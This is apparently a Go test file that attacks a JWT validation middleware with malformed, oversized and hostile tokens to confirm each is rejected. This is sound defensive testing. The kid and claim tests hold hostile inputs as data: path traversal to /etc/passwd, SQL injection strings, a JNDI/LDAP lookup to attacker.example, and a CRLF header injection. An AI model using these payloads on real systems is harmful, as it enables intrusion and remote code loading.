	if out == seg || err1 != nil || err2 != nil || !bytes.Equal(a, b) {
		t.Fatalf("noncanonical(%q) = %q does not decode laxly to the same bytes", seg, out)
	}
	return out
}

// padTo appends spaces to a JSON text until its base64url form has a length
// whose last character carries unused bits.
func padTo(s string) string {
	for len(enc(s))%4 < 2 {
		s += " "
	}
	return s
}

func TestAttackTokenShapes(t *testing.T) {
	o := newOwnSigner(t)
	header := hdr("EdDSA", ownKID)
	payload := claimsJSON()
	good := o.signJSON(header, payload)
	gh, gp, gs := splitToken(good)

	// A header whose base64url form holds '-' or '_', to re-encode with '+' and '/'.
	var urlHeader string
	for i := 0; urlHeader == ""; i++ {
		h := hdr("EdDSA", ownKID, fmt.Sprintf(`"x":"%s??>>~~"`, strings.Repeat(" ", i)))
		if strings.ContainsAny(enc(h), "-_") {
			urlHeader = enc(h)
		}
	}
	stdHeader := strings.NewReplacer("-", "+", "_", "/").Replace(urlHeader)
	ncHeader := noncanonical(t, enc(padTo(header)))
	ncPayload := noncanonical(t, enc(padTo(payload)))
	ncSig := noncanonical(t, gs)
	nested := strings.Repeat("[", 2000) + strings.Repeat("]", 2000)

	runAttacks(t, o.v, nil, nil, []attack{
		{"control_well_formed_accepted", good, nil},
		{"control_url_alphabet_header_accepted", o.sign(urlHeader, gp), nil},
		{"control_padded_json_accepted", o.sign(enc(padTo(header)), enc(padTo(payload))), nil},
		// JWE and JSON serializations.
		{"jwe_five_parts", enc(`{"alg":"RSA-OAEP","enc":"A256GCM"}`) + ".AAAA.AAAA.AAAA.AAAA", middleware.ErrMalformed},
		{"jwe_header_in_three_parts", o.signJSON(hdr("EdDSA", ownKID, `"enc":"A256GCM"`), payload), middleware.ErrMalformed},
		{"zip_header", o.signJSON(hdr("EdDSA", ownKID, `"zip":"DEF"`), payload), middleware.ErrMalformed},
		{"jws_json_general_serialization", fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"signature":%q}]}`, gp, gh, gs), middleware.ErrMalformed},
		{"jws_json_flattened_serialization", fmt.Sprintf(`{"payload":%q,"protected":%q,"signature":%q}`, gp, gh, gs), middleware.ErrMalformed},
		{"jws_json_serialization_base64url", enc(fmt.Sprintf(`{"payload":%q,"protected":%q,"signature":%q}`, gp, gh, gs)), middleware.ErrMalformed},
		// RFC 7797 unencoded payloads and critical extensions.
		{"b64_false_crit_raw_payload", o.sign(enc(hdr("EdDSA", ownKID, `"b64":false,"crit":["b64"]`)), payload), middleware.ErrMalformed},
		{"b64_false_crit_encoded_payload", o.signJSON(hdr("EdDSA", ownKID, `"b64":false,"crit":["b64"]`), payload), middleware.ErrMalformed},
		{"b64_false_without_crit", o.signJSON(hdr("EdDSA", ownKID, `"b64":false`), payload), middleware.ErrMalformed},
		{"crit_unknown_extension", o.signJSON(hdr("EdDSA", ownKID, `"crit":["exp"],"exp":1`), payload), middleware.ErrMalformed},
		// Non-canonical base64url: every variant is signed, so only the encoding is wrong.
		{"padding_on_header", o.sign(gh+"=", gp), middleware.ErrMalformed},
		{"padding_on_payload", o.sign(gh, gp+"=="), middleware.ErrMalformed},
		{"padding_on_signature", good + "==", middleware.ErrMalformed},
		{"std_alphabet_plus_slash_in_header", o.sign(stdHeader, gp), middleware.ErrMalformed},
		{"std_alphabet_plus_slash_in_signature", gh + "." + gp + "." + strings.NewReplacer("-", "+", "_", "/").Replace(gs) + "+/", middleware.ErrMalformed},
		{"trailing_nonzero_bits_in_header", o.sign(ncHeader, enc(padTo(payload))), middleware.ErrMalformed},
		{"trailing_nonzero_bits_in_payload", o.sign(enc(padTo(header)), ncPayload), middleware.ErrMalformed},
		// The signature segment is decoded while verifying: its encoding errors are signature errors.
		{"trailing_nonzero_bits_in_signature", gh + "." + gp + "." + ncSig, middleware.ErrBadSignature},
		{"space_inside", good[:20] + " " + good[20:], middleware.ErrMalformed},
		{"newline_inside", good[:20] + "\n" + good[20:], middleware.ErrMalformed},
		{"crlf_inside", good[:20] + "\r\n" + good[20:], middleware.ErrMalformed},
		{"tab_inside", good[:20] + "\t" + good[20:], middleware.ErrMalformed},
		{"leading_space", " " + good, middleware.ErrMalformed},
		{"trailing_newline", good + "\n", middleware.ErrMalformed},
		// Dots, empty segments and garbage around the token.
		{"leading_dot", "." + good, middleware.ErrMalformed},
		{"trailing_dot", good + ".", middleware.ErrMalformed},
		{"double_dot", gh + ".." + gp + "." + gs, middleware.ErrMalformed},
		{"four_segments", good + ".AAAA", middleware.ErrMalformed},
		{"only_dots", "..", middleware.ErrMalformed},
		{"three_dots", "...", middleware.ErrMalformed},
		{"empty", "", middleware.ErrMalformed},
		{"empty_header", "." + gp + "." + gs, middleware.ErrMalformed},
		{"empty_payload", gh + ".." + gs, middleware.ErrMalformed},
		{"empty_signature", gh + "." + gp + ".", middleware.ErrMalformed},
		{"leading_nul", "\x00" + good, middleware.ErrMalformed},
		{"trailing_nul", good + "\x00", middleware.ErrMalformed},
		{"bearer_prefix_left_on", "Bearer " + good, middleware.ErrMalformed},
		{"quoted", `"` + good + `"`, middleware.ErrMalformed},
		{"trailing_semicolon", good + ";", middleware.ErrMalformed},
		{"non_ascii_inside", good[:20] + "é" + good[20:], middleware.ErrMalformed},
		// JSON the segments decode to.
		{"header_not_utf8", o.signJSON(hdr("EdDSA", ownKID, "\"x\":\"\xff\""), payload), middleware.ErrMalformed},
		{"payload_not_utf8", o.signJSON(header, claimsJSON("x", "\"\xfe\xff\"")), middleware.ErrMalformed},
		{"payload_lone_surrogate_escape", o.signJSON(header, claimsJSON("x", `"\ud800"`)), middleware.ErrMalformed},
		{"header_utf8_bom", o.signJSON("\xef\xbb\xbf"+header, payload), middleware.ErrMalformed},
		{"header_array", o.signJSON(`[`+header+`]`, payload), middleware.ErrMalformed},
		{"header_null", o.signJSON(`null`, payload), middleware.ErrMalformed},
		{"header_string", o.signJSON(`"EdDSA"`, payload), middleware.ErrMalformed},
		{"payload_array", o.signJSON(header, `[`+payload+`]`), middleware.ErrMalformed},
		{"payload_two_objects", o.signJSON(header, payload+payload), middleware.ErrMalformed},
		{"payload_comment", o.signJSON(header, "/**/"+payload), middleware.ErrMalformed},
		{"control_deeply_nested_header_within_cap_accepted", o.signJSON(hdr("EdDSA", ownKID, `"x":`+nested), payload), nil},
		{"control_deeply_nested_claims_within_cap_accepted", o.signJSON(header, claimsJSON("x", nested)), nil},
		{"deeply_nested_unbalanced_header", o.signJSON(hdr("EdDSA", ownKID, `"x":`+strings.Repeat("[", 4000)), payload), middleware.ErrMalformed},
		{"deeply_nested_unbalanced_claims", o.signJSON(header, claimsJSON("x", strings.Repeat(`{"a":`, 1000))), middleware.ErrMalformed},
	})
}

// sizedToken returns a token of exactly n bytes signed by o, grown by a pad
// member in the header or in the claims.
func sizedToken(t *testing.T, o *ownSigner, n int, inHeader bool) string {
	t.Helper()
	sigLen := base64.RawURLEncoding.EncodedLen(ed25519.SignatureSize)
	// Whitespace before the other segment's JSON shifts its encoded length, so
	// that every total is reachable.
	for spaces := 0; spaces < 3; spaces++ {
		lead := strings.Repeat(" ", spaces)
		// Each pad byte adds 4/3 of a character: start just short of n.
		start := max(0, (n-len(o.signJSON(lead+hdr("EdDSA", ownKID), lead+claimsJSON())))*3/4-8)
		for pad := start; pad < n; pad++ {
			filler := strings.Repeat("x", pad)
			h, p := hdr("EdDSA", ownKID, `"pad":"`+filler+`"`), lead+claimsJSON()
			if !inHeader {
				h, p = lead+hdr("EdDSA", ownKID), claimsJSON("pad", `"`+filler+`"`)
			}
			size := len(enc(h)) + 1 + len(enc(p)) + 1 + sigLen
			if size == n {
				return o.signJSON(h, p)
			}
			if size > n {
				break
			}
		}
	}
	t.Fatalf("no token of exactly %d bytes", n)
	return ""
}

// TestAttackOversizedTokens checks the 8 KiB cap to the byte, and that
// megabyte tokens are refused before any decoding: no allocation beyond the
// error, and fast.
func TestAttackOversizedTokens(t *testing.T) {
	o := newOwnSigner(t)
	limit := middleware.DefaultMaxTokenBytes
	runAttacks(t, o.v, nil, nil, []attack{
		{"control_large_header_just_under_cap_accepted", sizedToken(t, o, limit-1, true), nil},
		{"control_large_header_at_cap_accepted", sizedToken(t, o, limit, true), nil},
		{"large_header_one_byte_over_cap", sizedToken(t, o, limit+1, true), middleware.ErrTooLarge},
		{"control_large_claims_just_under_cap_accepted", sizedToken(t, o, limit-1, false), nil},
		{"control_large_claims_at_cap_accepted", sizedToken(t, o, limit, false), nil},
		{"large_claims_one_byte_over_cap", sizedToken(t, o, limit+1, false), middleware.ErrTooLarge},
	})

	gh, _, gs := splitToken(o.signJSON(hdr("EdDSA", ownKID), claimsJSON()))
	for _, size := range []int{64 << 10, 1 << 20, 16 << 20} {
		for _, shape := range []struct{ name, raw string }{
			{"letters", strings.Repeat("A", size)},
			{"jws_shaped", gh + "." + strings.Repeat("A", size) + "." + gs},
			{"garbage", strings.Repeat("\xff.", size/2)},
		} {
			t.Run(fmt.Sprintf("megabytes_%s_%dKiB", shape.name, size>>10), func(t *testing.T) {
				ctx := context.Background()
				_, err := o.v.Validate(ctx, shape.raw)
				if !errors.Is(err, middleware.ErrTooLarge) || !errors.Is(err, middleware.ErrInvalidToken) {
					t.Fatalf("err = %v, want ErrTooLarge", err)
				}
				var e *middleware.Error
				if !errors.As(err, &e) || e.Status != http.StatusUnauthorized || strings.Contains(e.Description, shape.raw[:64]) {
					t.Fatalf("want a 401 with a safe description, got %#v", err)
				}
				// Decoding even a fraction would allocate megabytes; the rejection allocates
				// only its *Error.
				if allocs := testing.AllocsPerRun(10, func() { _, _ = o.v.Validate(ctx, shape.raw) }); allocs > 2 {
					t.Fatalf("rejecting a %d-byte token made %v allocations", len(shape.raw), allocs)
				}
				fastest := time.Hour
				for range 5 {
					start := time.Now()
					_, _ = o.v.Validate(ctx, shape.raw)
					fastest = min(fastest, time.Since(start))
				}
				if fastest > 20*time.Millisecond {
					t.Fatalf("rejecting a %d-byte token took %v", len(shape.raw), fastest)
				}
			})
		}
	}
}

// TestAttackKIDInjection sends hostile kid values with a real signature.
func TestAttackKIDInjection(t *testing.T) {
	as := allAlgAS(t)
	kid := as.kid(t, "EdDSA")
	payload := claimsJSON()
	withKID := func(kidJSON string) string {
		return as.signRaw(t, kid, `{"alg":"EdDSA","kid":`+kidJSON+`,"typ":"at+jwt"}`, payload)
	}
	q := func(s string) string { return jsonString(t, s) }
	runAttacks(t, as.v, as.keys, keyMaterial(t, as), []attack{
		{"control_real_kid_accepted", withKID(q(kid)), nil},
		// An empty kid is no kid: the only EdDSA key is chosen, and it did sign.
		{"control_empty_kid_accepted", withKID(`""`), nil},
		{"path_traversal", withKID(q("../../etc/passwd")), middleware.ErrUnknownKey},
		{"path_traversal_windows", withKID(q(`..\..\windows\win.ini`)), middleware.ErrUnknownKey},
		{"path_traversal_url_encoded", withKID(q("..%2f..%2fetc%2fpasswd")), middleware.ErrUnknownKey},
		{"sql_injection", withKID(q("' OR 1=1--")), middleware.ErrUnknownKey},
		{"sql_injection_double_quote", withKID(q(`" OR ""="`)), middleware.ErrUnknownKey},
		{"nul_escaped", withKID(`"\u0000"`), middleware.ErrUnknownKey},
		{"real_kid_then_nul", withKID(q(kid + "\x00")), middleware.ErrUnknownKey},
		{"nul_then_real_kid", withKID(q("\x00" + kid)), middleware.ErrUnknownKey},
		{"raw_nul_in_json_string", withKID("\"" + kid + "\x00\""), middleware.ErrMalformed},
		{"real_kid_upper_case", withKID(q(strings.ToUpper(kid))), middleware.ErrUnknownKey},
		{"real_kid_trailing_space", withKID(q(kid + " ")), middleware.ErrUnknownKey},
		{"url", withKID(q("https://attacker.example/jwks.json")), middleware.ErrUnknownKey},
		{"wildcard", withKID(q("*")), middleware.ErrUnknownKey},
		{"template", withKID(q("${jndi:ldap://attacker.example/a}{{.}}")), middleware.ErrUnknownKey},
		{"kid_of_another_alg", withKID(q(as.kid(t, "RS256"))), middleware.ErrAlgNotAllowed},
		{"long_kid_within_cap", withKID(q(strings.Repeat("k", 3000))), middleware.ErrUnknownKey},
		{"long_kid_over_cap", withKID(q(strings.Repeat("k", 7000))), middleware.ErrTooLarge},
		{"kid_number", withKID(`1`), middleware.ErrMalformed},
		{"kid_null", withKID(`null`), middleware.ErrMalformed},
		{"kid_bool", withKID(`true`), middleware.ErrMalformed},
		{"kid_object", withKID(`{"kid":` + q(kid) + `}`), middleware.ErrMalformed},
		{"kid_array", withKID(`[` + q(kid) + `]`), middleware.ErrMalformed},
	})
}

// TestAttackClaimTypes sends claims of the wrong JSON type or range, each
// signed by the real key.
func TestAttackClaimTypes(t *testing.T) {
	as := allAlgAS(t)
	kid := as.kid(t, "EdDSA")
	header := hdr("EdDSA", kid)
	sign := func(kv ...string) string { return as.signRaw(t, kid, header, claimsJSON(kv...)) }
	future := strconv.FormatInt(now.Add(time.Hour).Unix(), 10)
	soon := strconv.FormatInt(now.Add(time.Minute).Unix(), 10)
	past := strconv.FormatInt(now.Add(-time.Hour).Unix(), 10)
	aud := strconv.Quote(authtest.DefaultAudience)
	cases := []attack{
		{"control_defaults_accepted", sign(), nil},
		{"control_exp_float_accepted", sign("exp", future+".25"), nil},
		{"control_exp_exponent_form_accepted", sign("exp", fmt.Sprintf("%se-1", future+"0")), nil},
		{"exp_float_past", sign("exp", past+".5"), middleware.ErrExpired},
		{"exp_zero", sign("exp", "0"), middleware.ErrExpired},
		{"exp_negative_zero", sign("exp", "-0"), middleware.ErrExpired},
		{"exp_missing", sign("exp", omit), middleware.ErrMissingClaim},
		{"control_aud_array_accepted", sign("aud", "[\"x\","+aud+"]"), nil},
		{"control_nbf_within_leeway_accepted", sign("nbf", strconv.FormatInt(now.Add(20*time.Second).Unix(), 10)), nil},
		{"nbf_future", sign("nbf", soon), middleware.ErrNotYetValid},
		{"iat_future", sign("iat", soon), middleware.ErrNotYetValid},
		{"nbf_float_future", sign("nbf", soon+".5"), middleware.ErrNotYetValid},
	}
	for _, name := range []string{"exp", "nbf", "iat"} {
		for _, bad := range []struct{ label, value string }{
			{"string", strconv.Quote(future)},
			{"huge_1e20", "1e20"},
			{"huge_1e309", "1e309"},
			{"negative", "-1"},
			{"negative_huge", "-1e309"},
			{"null", "null"},
			{"bool", "true"},
			{"array", "[" + future + "]"},
			{"object", `{"$numberLong":` + strconv.Quote(future) + `}`},
			{"empty_string", `""`},
		} {
			cases = append(cases, attack{name + "_" + bad.label, sign(name, bad.value), middleware.ErrMalformed})
		}
	}
	for _, c := range []struct {
		name, value string
		reason      error
	}{
		{"aud_number", "42", middleware.ErrMalformed},
		{"aud_object", `{"aud":` + aud + `}`, middleware.ErrMalformed},
		{"aud_null", "null", middleware.ErrMalformed},
		{"aud_bool", "true", middleware.ErrMalformed},
		{"aud_empty_array", "[]", middleware.ErrWrongAudience},
		{"aud_array_of_numbers", "[1,2]", middleware.ErrMalformed},
		{"aud_array_ours_then_number", "[" + aud + ",1]", middleware.ErrMalformed},
		{"aud_array_number_then_ours", "[1," + aud + "]", middleware.ErrMalformed},
		{"aud_array_ours_then_null", "[" + aud + ",null]", middleware.ErrMalformed},
		{"aud_nested_array", "[[" + aud + "]]", middleware.ErrMalformed},
		{"aud_empty_string", `""`, middleware.ErrWrongAudience},
		{"aud_case_variant", strconv.Quote(strings.ToUpper(authtest.DefaultAudience)), middleware.ErrWrongAudience},
		{"aud_trailing_slash", strconv.Quote(authtest.DefaultAudience + "/"), middleware.ErrWrongAudience},
		{"aud_omitted", omit, middleware.ErrWrongAudience},
	} {
		cases = append(cases, attack{c.name, sign("aud", c.value), c.reason})
	}
	for _, c := range []struct {
		name, value string
		reason      error
	}{
		{"organizationId_number", "7", middleware.ErrMalformed},
		{"organizationId_object", `{"id":"org_acme"}`, middleware.ErrMalformed},
		{"organizationId_empty_string", `""`, middleware.ErrMissingOrganization},
		{"organizationId_null", "null", middleware.ErrMalformed},
		{"organizationId_array", `["org_acme"]`, middleware.ErrMalformed},
		{"organizationId_bool", "true", middleware.ErrMalformed},
		{"organizationId_omitted", omit, middleware.ErrMissingOrganization},
	} {
		cases = append(cases, attack{c.name, sign("organizationId", c.value), c.reason})
	}
	cases = append(cases,
		attack{"iss_number", sign("iss", "1"), middleware.ErrMalformed},
		attack{"iss_null", sign("iss", "null"), middleware.ErrMalformed},
		attack{"iss_array", sign("iss", "["+strconv.Quote(fuzzIssuer)+"]"), middleware.ErrMalformed},
		attack{"iss_other", sign("iss", `"https://attacker.example"`), middleware.ErrWrongIssuer},
		attack{"sub_number", sign("sub", "123"), middleware.ErrMalformed},
		attack{"scope_quote", sign("scope", `"read\"x"`), middleware.ErrMalformed},
		attack{"scope_backslash", sign("scope", `"read\\x"`), middleware.ErrMalformed},
		attack{"scope_tab", sign("scope", `"read\twrite"`), middleware.ErrMalformed},
		attack{"scope_newline_header_injection", sign("scope", `"read\r\nX-Injected: 1"`), middleware.ErrMalformed},
		attack{"scope_nul", sign("scope", `"read\u0000"`), middleware.ErrMalformed},
		attack{"scope_non_ascii", sign("scope", `"lecture:écrire"`), middleware.ErrMalformed},
		attack{"scope_number", sign("scope", "1"), middleware.ErrMalformed},
		attack{"scope_array", sign("scope", `["read"]`), middleware.ErrMalformed},
		attack{"scp_invalid_element", sign("scp", `["read","a b"]`), middleware.ErrMalformed},
		attack{"scp_number", sign("scp", `[1]`), middleware.ErrMalformed},
		attack{"cnf_bound_token", sign("cnf", `{"jkt":"0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"}`), middleware.ErrBoundToken},
		attack{"cnf_null_still_bound", sign("cnf", "null"), middleware.ErrBoundToken},
	)
	runAttacks(t, as.v, as.keys, keyMaterial(t, as), cases)
}

// TestAttackDuplicateNames: a duplicated or case-variant member name must
// never let through a token that its exact, first value would reject.
func TestAttackDuplicateNames(t *testing.T) {
	as := allAlgAS(t)
	kid := as.kid(t, "EdDSA")
	header := hdr("EdDSA", kid)
	signPayload := func(payload string) string { return as.signRaw(t, kid, header, payload) }
	signHeader := func(h string) string { return as.signRaw(t, kid, h, claimsJSON()) }
	future := strconv.FormatInt(now.Add(time.Hour).Unix(), 10)
	past := strconv.FormatInt(now.Add(-time.Hour).Unix(), 10)
	aud := strconv.Quote(authtest.DefaultAudience)
	// base has every required member except exp.
	base := fmt.Sprintf(`"iss":%q,"aud":%s,"sub":"user_123","organizationId":"org_acme"`, fuzzIssuer, aud)
	noOrg := fmt.Sprintf(`"iss":%q,"aud":%s,"exp":%s`, fuzzIssuer, aud, future)
	noAud := fmt.Sprintf(`"iss":%q,"organizationId":"org_acme","exp":%s`, fuzzIssuer, future)
	runAttacks(t, as.v, as.keys, keyMaterial(t, as), []attack{
		{"control_exact_names_accepted", signPayload(`{` + base + `,"exp":` + future + `}`), nil},
		{"control_escaped_name_alone_is_the_same_member_accepted", signPayload(`{` + base + `,"\u0065xp":` + future + `}`), nil},
		{"exp_then_EXP", signPayload(`{` + base + `,"exp":` + past + `,"EXP":` + future + `}`), middleware.ErrExpired},
		{"EXP_then_exp", signPayload(`{` + base + `,"EXP":` + future + `,"exp":` + past + `}`), middleware.ErrExpired},
		{"EXP_alone", signPayload(`{` + base + `,"EXP":` + future + `}`), middleware.ErrMissingClaim},
		{"Exp_alone", signPayload(`{` + base + `,"Exp":` + future + `}`), middleware.ErrMissingClaim},
		{"exp_twice_past_first", signPayload(`{` + base + `,"exp":` + past + `,"exp":` + future + `}`), middleware.ErrMalformed},
		{"exp_twice_future_first", signPayload(`{` + base + `,"exp":` + future + `,"exp":` + past + `}`), middleware.ErrMalformed},
		{"exp_then_escaped_exp", signPayload(`{` + base + `,"exp":` + past + `,"\u0065xp":` + future + `}`), middleware.ErrMalformed},
		{"exp_then_fully_escaped_exp", signPayload(`{` + base + `,"exp":` + past + `,"\u0065\u0078\u0070":` + future + `}`), middleware.ErrMalformed},
		{"organizationId_twice", signPayload(`{` + noOrg + `,"organizationId":"org_acme","organizationId":"org_globex"}`), middleware.ErrMalformed},
		{"organizationId_empty_then_set", signPayload(`{` + noOrg + `,"organizationId":"","organizationId":"org_acme"}`), middleware.ErrMalformed},
		{"organizationId_case_variant_only", signPayload(`{` + noOrg + `,"organizationid":"org_acme","OrganizationId":"org_acme"}`), middleware.ErrMissingOrganization},
		{"organizationId_empty_then_case_variant", signPayload(`{` + noOrg + `,"organizationId":"","OrganizationID":"org_acme"}`), middleware.ErrMissingOrganization},
		{"aud_twice_other_first", signPayload(`{` + noAud + `,"aud":"https://other.example","aud":` + aud + `}`), middleware.ErrMalformed},
		{"aud_twice_ours_first", signPayload(`{` + noAud + `,"aud":` + aud + `,"aud":"https://other.example"}`), middleware.ErrMalformed},
		{"aud_case_variant_only", signPayload(`{` + noAud + `,"AUD":` + aud + `}`), middleware.ErrWrongAudience},
		{"iss_twice", signPayload(fmt.Sprintf(`{"iss":"https://attacker.example","iss":%q,"aud":%s,"organizationId":"o","exp":%s}`, fuzzIssuer, aud, future)), middleware.ErrMalformed},
		{"iss_case_variant_only", signPayload(fmt.Sprintf(`{"ISS":%q,"aud":%s,"organizationId":"o","exp":%s}`, fuzzIssuer, aud, future)), middleware.ErrWrongIssuer},
		{"cnf_twice", signPayload(`{` + base + `,"exp":` + future + `,"cnf":{},"cnf":{}}`), middleware.ErrMalformed},
		{"nested_duplicate", signPayload(`{` + base + `,"exp":` + future + `,"x":{"a":1,"a":2}}`), middleware.ErrMalformed},
		{"header_alg_twice", signHeader(fmt.Sprintf(`{"alg":"none","alg":"EdDSA","kid":%q}`, kid)), middleware.ErrMalformed},
		{"header_alg_then_escaped_alg", signHeader(fmt.Sprintf(`{"alg":"EdDSA","\u0061lg":"none","kid":%q}`, kid)), middleware.ErrMalformed},
		{"header_kid_twice", signHeader(fmt.Sprintf(`{"alg":"EdDSA","kid":"x","kid":%q}`, kid)), middleware.ErrMalformed},
		{"header_typ_twice", signHeader(fmt.Sprintf(`{"alg":"EdDSA","kid":%q,"typ":"dpop+jwt","typ":"at+jwt"}`, kid)), middleware.ErrMalformed},
		{"header_ALG_case_variant_only", signHeader(fmt.Sprintf(`{"ALG":"EdDSA","kid":%q}`, kid)), middleware.ErrAlgNotAllowed},
		{"header_crit_beside_CRIT", signHeader(fmt.Sprintf(`{"alg":"EdDSA","kid":%q,"CRIT":["x"],"crit":["x"]}`, kid)), middleware.ErrMalformed},
	})
}
